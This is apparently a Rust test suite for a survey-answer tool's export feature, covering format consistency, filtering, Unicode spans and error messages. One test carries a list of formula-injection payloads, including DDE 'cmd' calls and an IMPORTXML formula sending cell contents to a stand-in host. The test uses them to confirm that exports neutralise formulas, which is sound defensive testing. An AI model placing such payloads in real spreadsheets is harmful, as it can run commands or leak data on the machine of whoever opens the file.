//! `innspill export`: the same answers in every format, whole or in part, right where they are opened.

use std::collections::BTreeMap;
use std::fs;
use std::path::{Path, PathBuf};

use assert_cmd::Command;
use calamine::{Data, Reader, Xlsx, open_workbook};
use serde_json::Value;

/// Letters beyond ASCII, signs beyond 16 bits, joined marks, line ends.
const HARD: [&str; 3] = [
    "Færre siloer 🙂 på tvers.\nSlå sammen etatene og riv siloene.",
    "A\u{30a}pne siloene, e\u{301}n gang for alle 👩‍👩‍👧.",
    "Riv siloene\r\nog jobb på tvers av etatene.",
];

/// Ways in which a cell may be taken for a formula.
const FORMULAS: [&str; 20] = [
    "=1+1",
    "=HYPERLINK(\"http://example.invalid\",\"klikk\")",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u{a0}=1+1",
    "\"=1+1",
    "\u{200b}=1+1",
    "\u{feff}=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "=IMPORTXML(CONCAT(\"http://example.invalid\",A1),\"//a\")",
];

fn innspill() -> Command {
    let mut command = Command::new(env!("CARGO_BIN_EXE_innspill"));
    command.arg("--quiet");
    command
}

fn sample() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("corpus/sample")
}

fn export(input: &Path, format: &str, output: &Path, more: &[&str]) {
    innspill()
        .arg("export")
        .arg(input)
        .args(["--format", format, "--output"])
        .arg(output)
        .args(more)
        .assert()
        .success();
}

mod sample_copy;

/// A file of tagged answers with these texts.
fn tagged(folder: &Path, texts: &[&str]) -> PathBuf {
    let lines: String = (texts.iter().enumerate())
        .map(|(row, text)| {
            let group = ["Bord 1", "Bord 2", "Bord 10"][row % 3];
            let answer = serde_json::json!({
                "id": format!("s{row}"), "text": text, "kind": "wish", "group": {"bord": group, "sektor": "stat"},
                "time": "2026-11-03T09:30:00", "merknad": text, "poeng": 40 + row,
            });
            format!("{answer}\n")
        })
        .collect();
    let (input, output) = (folder.join("svar.jsonl"), folder.join("tags.jsonl"));
    fs::write(&input, lines).unwrap();
    innspill().arg("tag").arg(&input).arg("--keep-fields").arg("--output").arg(&output).assert().success();
    output
}

fn lines(path: &Path) -> Vec<Value> {
    fs::read_to_string(path).unwrap().lines().map(|line| serde_json::from_str(line).unwrap()).collect()
}

#[test]
fn every_format_comes_out_the_same_twice_and_holds_every_answer() {
    let folder = tempfile::tempdir().unwrap();
    let count = {
        let path = folder.path().join("a.jsonl");
        export(&sample(), "jsonl", &path, &[]);
        lines(&path).len()
    };
    assert!(count > 100);
    for (format, name) in [("csv", "a.csv"), ("xlsx", "a.xlsx"), ("qdpx", "a.qdpx"), ("qdc", "a.qdc")] {
        let (first, second) = (folder.path().join(name), folder.path().join(format!("b.{format}")));
        export(&sample(), format, &first, &["--threads", "1"]);
        export(&sample(), format, &second, &["--threads", "2"]);
        assert!(fs::read(&first).unwrap() == fs::read(&second).unwrap(), "{format} differs");
    }
    let csv = fs::read_to_string(folder.path().join("a.csv")).unwrap();
    assert_eq!(csv::Reader::from_reader(csv.as_bytes()).records().count(), count);
    let mut workbook: Xlsx<_> = open_workbook(folder.path().join("a.xlsx")).unwrap();
    assert_eq!(workbook.worksheet_range("answers").unwrap().height(), count + 1);
    export(&sample(), "parquet", &folder.path().join("frames"), &[]);
    let file = fs::File::open(folder.path().join("frames/answers.parquet")).unwrap();
    let reader = parquet::arrow::arrow_reader::ParquetRecordBatchReaderBuilder::try_new(file).unwrap();
    assert_eq!(usize::try_from(reader.metadata().file_metadata().num_rows()).unwrap(), count);
}

#[test]
fn a_run_is_exported_as_it_stands_with_what_people_corrected_and_noted() {
    let folder = tempfile::tempdir().unwrap();
    let project = sample_copy::sample_project(folder.path());
    let (before, after) = (folder.path().join("before.jsonl"), folder.path().join("after.jsonl"));
    export(&project, "jsonl", &before, &[]);
    assert!(!project.join("innspill.db").exists(), "without a run nothing is kept");
    innspill().arg("run").arg(&project).assert().success();
    export(&project, "jsonl", &after, &[]);
    let (before, after) = (lines(&before), lines(&after));
    assert_eq!(before.len(), after.len());
    for (before, after) in before.iter().zip(&after) {
        for key in ["id", "topics", "verdicts", "patterns", "facets"] {
            assert_eq!(before[key], after[key], "{key} of {}", before["id"]);
        }
    }

    let uncoded = after.iter().find(|line| line["outcome"] == "none_of_the_above").unwrap();
    let correction =
        format!("answer,code,action,who\n{},collaboration/silos,add,Åse\n", uncoded["id"].as_str().unwrap());
    fs::write(project.join("corrections.csv"), correction).unwrap();
    fs::write(project.join("notes.csv"), "on,key,note,who\ncode,collaboration/silos,Se på denne,Åse\n").unwrap();
    innspill().arg("run").arg(&project).assert().success();
    let tables = folder.path().join("tables");
    export(&project, "csv", &tables, &[]);
    let by_people: Vec<_> = sample_copy::table(&tables.join("tags.csv"))
        .into_iter()
        .filter(|tag| tag["set_by"] == "person")
        .map(|tag| (tag["answer_id"].clone(), tag["who"].clone()))
        .collect();
    assert!(!by_people.is_empty());
    assert!(by_people.iter().all(|(id, who)| uncoded["id"] == id.as_str() && who == "Åse"), "{by_people:?}");
    assert!(tables.join("notes.csv").exists());
    export(&project, "qdpx", &folder.path().join("a.qdpx"), &[]);
    let mut archive = zip::ZipArchive::new(fs::File::open(folder.path().join("a.qdpx")).unwrap()).unwrap();
    let mut xml = String::new();
    std::io::Read::read_to_string(&mut archive.by_name("project.qde").unwrap(), &mut xml).unwrap();
    assert!(xml.contains("name=\"Åse\"") && xml.contains("Notat 1: code collaboration/silos"), "letters stay letters");
}

#[test]
fn what_is_exported_as_jsonl_can_be_exported_again_without_loss() {
    let folder = tempfile::tempdir().unwrap();
    let (first, second) = (folder.path().join("a.jsonl"), folder.path().join("b.jsonl"));
    export(&sample(), "jsonl", &first, &[]);
    export(&first, "jsonl", &second, &[]);
    assert_eq!(fs::read_to_string(first).unwrap(), fs::read_to_string(second).unwrap());
}

#[test]
fn a_tagged_file_of_many_parts_is_written_whole_in_order_and_by_choice() {
    const ROWS: usize = 9_000;
    let folder = tempfile::tempdir().unwrap();
    let few = lines(&tagged(folder.path(), &HARD));
    let many = folder.path().join("many.jsonl");
    let rows: String = (0..ROWS)
        .map(|row| {
            let mut line = few[row % few.len()].clone();
            line["id"] = format!("r{row}").into();
            line["input"]["id"] = format!("r{row}").into();
            if row == ROWS - 1 {
                line["input"]["sent"] = "bare her".into();
                line["input"]["group"]["fylke"] = "Vestland".into();
            }
            format!("{line}\n")
        })
        .collect();
    fs::write(&many, rows).unwrap();
    let [jsonl, csv, part, frames] = ["a.jsonl", "a.csv", "part.csv", "frames"].map(|name| folder.path().join(name));
    export(&many, "jsonl", &jsonl, &[]);
    let ids: Vec<String> = lines(&jsonl).iter().map(|line| line["id"].as_str().unwrap().to_owned()).collect();
    assert_eq!(ids, (0..ROWS).map(|row| format!("r{row}")).collect::<Vec<_>>());
    export(&many, "csv", &csv, &[]);
    let table = sample_copy::table(&csv);
    assert_eq!(table.len(), ROWS);
    assert_eq!(
        (table[0]["sent"].as_str(), table[ROWS - 1]["sent"].as_str()),
        ("", "bare her"),
        "columns are those of all"
    );
    assert_eq!(table[ROWS - 1]["fylke"], "Vestland");
    assert!(table.iter().enumerate().all(|(row, line)| line["text"] == HARD[row % HARD.len()]));
    export(&many, "csv", &part, &["--only", "bord=Bord 1", "--unit", "sentence"]);
    let sentences = sample_copy::table(&part);
    assert_eq!(sentences.len(), 2 * ROWS / 3, "two sentences each");
    assert!(sentences.iter().all(|line| line["bord"] == "Bord 1"));
    export(&many, "parquet", &frames, &[]);
    for (table, rows) in [("answers", ROWS), ("vectors", ROWS), ("clusters", 0)] {
        let file = fs::File::open(frames.join(format!("{table}.parquet"))).unwrap();
        let reader = parquet::arrow::arrow_reader::ParquetRecordBatchReaderBuilder::try_new(file).unwrap();
        assert_eq!(usize::try_from(reader.metadata().file_metadata().num_rows()).unwrap(), rows, "{table}");
    }
}

#[test]
fn sheets_of_several_questions_find_the_texts_that_were_tagged() {
    use innspill::ingest::{ReadOptions, read_inputs};
    let folder = tempfile::tempdir().unwrap();
    let names = ["nettskjema", "microsoft_forms", "google_forms", "surveyxact", "qualtrics", "limesurvey"];
    for name in names.into_iter().chain(["decidim_proposals", "decidim_comments", "decidim_survey", "polis_comments"]) {
        let sheet = Path::new(env!("CARGO_MANIFEST_DIR")).join(format!("tests/fixtures/survey_tools/{name}.csv"));
        let [tagged, exported] = ["tagged", "exported"].map(|step| folder.path().join(format!("{name}.{step}.jsonl")));
        innspill().arg("tag").arg(&sheet).arg("--keep-fields").arg("--output").arg(&tagged).assert().success();
        export(&tagged, "jsonl", &exported, &[]);
        let read = read_inputs(&[sheet], &ReadOptions::default()).unwrap();
        let texts: Vec<&str> = read.answers.iter().map(|answer| answer.text.as_str()).collect();
        let lines = lines(&exported);
        let found: Vec<&str> = lines.iter().map(|line| line["input"]["text"].as_str().unwrap()).collect();
        assert_eq!(found, texts, "{name}");
    }
}

#[test]
fn a_line_whose_question_cannot_be_told_is_named_and_not_guessed_at() {
    let folder = tempfile::tempdir().unwrap();
    let path = tagged(folder.path(), &HARD);
    let first = fs::read_to_string(&path).unwrap().lines().next().unwrap().replacen("\"s0\"", "\"s0:2\"", 1);
    fs::write(&path, first).unwrap();
    let mut command = innspill();
    command.arg("export").arg(&path).args(["--format", "jsonl", "--output", "-"]);
    let assert = command.assert().code(2);
    let error = String::from_utf8(assert.get_output().stderr.clone()).unwrap();
    assert!(error.contains("tags.jsonl:1: the answer's text is not there"), "{error}");
}

#[test]
fn spans_of_a_tagged_file_cover_their_words_in_every_format() {
    let folder = tempfile::tempdir().unwrap();
    let tagged = tagged(folder.path(), &HARD);
    let expected: Vec<Vec<String>> = (lines(&tagged).iter().zip(HARD))
        .map(|(line, text)| {
            let characters: Vec<char> = text.chars().collect();
            let spans = line["topics"].as_array().unwrap().iter().flat_map(|tag| tag["spans"].as_array().unwrap());
            spans
                .map(|span| {
                    let at = |end: usize| usize::try_from(span[end].as_u64().unwrap()).unwrap();
                    characters[at(0)..at(1)].iter().collect()
                })
                .collect()
        })
        .collect();
    assert!(expected.iter().all(|spans| !spans.is_empty()), "the texts must be coded for this test to mean anything");

    let tables = folder.path().join("tables");
    export(&tagged, "csv", &tables, &[]);
    let mut reader = csv::Reader::from_path(tables.join("tags.csv")).unwrap();
    let rows: Vec<BTreeMap<String, String>> = reader.deserialize().map(Result::unwrap).collect();
    for (row, spans) in expected.iter().enumerate() {
        for evidence in spans {
            let found = rows.iter().any(|tag| tag["answer_id"] == format!("s{row}") && &tag["evidence"] == evidence);
            assert!(found, "{evidence:?}");
        }
    }
    for unit in ["group", "answer"] {
        let project = folder.path().join(format!("{unit}.qdpx"));
        export(&tagged, "qdpx", &project, &["--qdpx-unit", unit]);
        let covered = covered_words(&project);
        for evidence in expected.iter().flatten() {
            // A document has line feeds alone.
            assert!(covered.contains(&evidence.replace("\r\n", "\n")), "{unit}: {evidence:?} of {covered:?}");
        }
    }
}

/// What each selection of a project covers.
fn covered_words(project: &Path) -> Vec<String> {
    use std::io::Read;
    let mut archive = zip::ZipArchive::new(fs::File::open(project).unwrap()).unwrap();
    let mut read = |name: &str| {
        let mut text = String::new();
        archive.by_name(name).unwrap().read_to_string(&mut text).unwrap();
        text
    };
    let xml = read("project.qde");
    let mut text: Vec<char> = Vec::new();
    let mut covered = Vec::new();
    for element in xml.split('<') {
        let attribute = |name: &str| {
            let (_, rest) = element.split_once(&format!(" {name}=\""))?;
            rest.split_once('"').map(|(value, _)| value.to_owned())
        };
        if element.starts_with("TextSource ") {
            let path = attribute("plainTextPath").unwrap();
            text = read(&format!("sources/{}", path.strip_prefix("internal://").unwrap())).chars().collect();
        }
        if element.starts_with("PlainTextSelection ") {
            let place = |name: &str| attribute(name).unwrap().parse::<usize>().unwrap();
            covered.push(text[place("startPosition")..place("endPosition")].iter().collect());
        }
    }
    covered
}

#[test]
fn a_part_is_chosen_by_code_and_by_group_and_what_is_not_known_is_said() {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("part.jsonl");
    export(&sample(), "jsonl", &path, &["--only", "silos", "--only", "sektor=kommune"]);
    let part = lines(&path);
    assert!(!part.is_empty());
    for line in &part {
        assert_eq!(line["input"]["group"]["sektor"], "kommune");
        assert!(line["patterns"].as_array().unwrap().iter().any(|tag| tag["code"] == "silos"));
    }
    let run = |more: &[&str]| {
        let mut command = innspill();
        command.arg("export").arg(sample()).args(["--format", "jsonl", "--output"]).arg(&path).args(more);
        command.assert().code(2)
    };
    for (arguments, said) in [
        (["--only", "nothing"], "no such code"),
        (["--only", "fylke=Oslo"], "no such group"),
        (["--edition", "share"], "has a row per answer"),
    ] {
        let assert = run(&arguments);
        let error = String::from_utf8(assert.get_output().stderr.clone()).unwrap();
        assert!(error.contains(said) && error.lines().count() == 1, "{error}");
    }
}

#[test]
fn sentences_are_rows_of_their_own_that_lead_back_to_their_answer() {
    let folder = tempfile::tempdir().unwrap();
    let tagged = tagged(folder.path(), &HARD);
    let path = folder.path().join("sentences.csv");
    export(&tagged, "csv", &path, &["--unit", "sentence"]);
    let mut reader = csv::Reader::from_path(&path).unwrap();
    let rows: Vec<BTreeMap<String, String>> = reader.deserialize().map(Result::unwrap).collect();
    assert!(rows.len() > HARD.len());
    for row in &rows {
        assert_eq!(row["id"], format!("{}:{}", row["answer_id"], row["sentence"]));
        let answer: usize = row["answer_id"].trim_start_matches('s').parse().unwrap();
        assert!(HARD[answer].contains(&row["text"]), "{}", row["text"]);
    }
}

#[test]
fn no_spreadsheet_takes_a_text_for_a_formula() {
    let folder = tempfile::tempdir().unwrap();
    let tagged = tagged(folder.path(), &FORMULAS);
    let csv = folder.path().join("excel.csv");
    export(&tagged, "csv", &csv, &["--excel"]);
    let bytes = fs::read(&csv).unwrap();
    let text = bytes.strip_prefix("\u{feff}".as_bytes()).expect("a byte order mark");
    let mut reader = csv::ReaderBuilder::new().delimiter(b';').from_reader(text);
    let mut cells = 0;
    for record in reader.records() {
        for cell in record.unwrap().iter() {
            let bare = cell.trim_start_matches(|character: char| {
                character.is_whitespace() || character.is_control() || "\"\u{200b}\u{feff}".contains(character)
            });
            assert!(!bare.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']), "{cell:?}");
            cells += usize::from(cell.starts_with('\''));
        }
    }
    // Each stands twice: as the text, and as a column carried along.
    assert_eq!(cells, 2 * FORMULAS.len());

    let xlsx = folder.path().join("a.xlsx");
    export(&tagged, "xlsx", &xlsx, &[]);
    let mut workbook: Xlsx<_> = open_workbook(&xlsx).unwrap();
    for sheet in workbook.sheet_names() {
        assert!(
            workbook.worksheet_formula(&sheet).unwrap().cells().all(|(_, _, formula)| formula.is_empty()),
            "{sheet}"
        );
    }
    let answers = workbook.worksheet_range("answers").unwrap();
    assert!(
        answers.rows().flatten().any(|cell| cell == &Data::String("=1+1".to_owned())),
        "the words stay as they are"
    );
}

#[test]
fn the_workbook_has_real_numbers_and_dates_and_a_sheet_for_corrections() {
    let folder = tempfile::tempdir().unwrap();
    let tagged = tagged(folder.path(), &HARD);
    let path = folder.path().join("a.xlsx");
    export(&tagged, "xlsx", &path, &[]);
    let mut workbook: Xlsx<_> = open_workbook(&path).unwrap();
    let answers = workbook.worksheet_range("answers").unwrap();
    let header: Vec<String> = answers.rows().next().unwrap().iter().map(ToString::to_string).collect();
    let cell = |name: &str| answers.get((1, header.iter().position(|column| column == name).unwrap())).unwrap();
    assert!(matches!(cell("time"), Data::DateTime(_)), "{:?}", cell("time"));
    assert_eq!(cell("poeng"), &Data::Float(40.0));
    assert_eq!(cell("pat_silos"), &Data::Float(1.0));
    let corrections = workbook.worksheet_range("Rett her").unwrap();
    let names: Vec<String> = corrections.rows().next().unwrap().iter().map(ToString::to_string).collect();
    assert_eq!(names, ["svar-id", "tekst-hash", "tekst", "kode", "handling", "side", "hvem", "hvorfor"]);
    let open_rows = corrections.rows().skip(1).filter(|row| matches!(row[3], Data::Empty)).count();
    assert_eq!(open_rows, HARD.len(), "one row per answer for what the machine missed");
    let hash = corrections.get((1, 1)).unwrap().to_string();
    assert_eq!(hash.len(), 64);
}

#[test]
fn what_is_passed_on_has_no_row_per_answer() {
    let folder = tempfile::tempdir().unwrap();
    let tables = folder.path().join("share");
    export(&sample(), "csv", &tables, &["--edition", "share"]);
    let mut names: Vec<String> =
        fs::read_dir(&tables).unwrap().map(|entry| entry.unwrap().file_name().into_string().unwrap()).collect();
    names.sort();
    assert_eq!(
        names,
        ["clusters.csv", "codebook.csv", "consensus.csv", "findings.csv", "groups.csv", "patterns.csv", "quotes.csv"]
    );
    let xlsx = folder.path().join("share.xlsx");
    export(&sample(), "xlsx", &xlsx, &["--edition", "share"]);
    let workbook: Xlsx<_> = open_workbook(&xlsx).unwrap();
    assert_eq!(workbook.sheet_names(), ["read-me", "quotes", "themes by groups", "clusters", "codebook"]);
}

#[test]
fn a_file_that_is_not_tagged_or_of_another_codebook_is_named_with_its_line() {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("tags.jsonl");
    let output = folder.path().join("out.csv");
    let said = |contents: &str| {
        fs::write(&path, contents).unwrap();
        let mut command = innspill();
        command.arg("export").arg(&path).args(["--format", "csv", "--output"]).arg(&output);
        let assert = command.assert().code(2);
        assert!(!output.exists(), "nothing half written");
        String::from_utf8(assert.get_output().stderr.clone()).unwrap()
    };
    let good = r#"{"id":"1","lang":"nb","outcome":"coded","themes":[{"code":"collaboration","score":0.9}],"topics":[],"verdicts":[],"patterns":[],"facets":{},"input":{"text":"hemmelig ord"}}"#;
    assert!(said(&format!("{good}\n{{\"text\":\"hemmelig ord\"}}\n")).contains("tags.jsonl:2:"));
    assert!(said(&good.replace(",\"input\":{\"text\":\"hemmelig ord\"}", "")).contains("--keep-fields"));
    assert!(said(&good.replace("collaboration", "another")).contains("--codebook"));
    assert!(said("").contains("is empty"));
    assert!(!said(&format!("{good}\nhemmelig ord\n")).contains("hemmelig"), "no cell contents in errors");
}
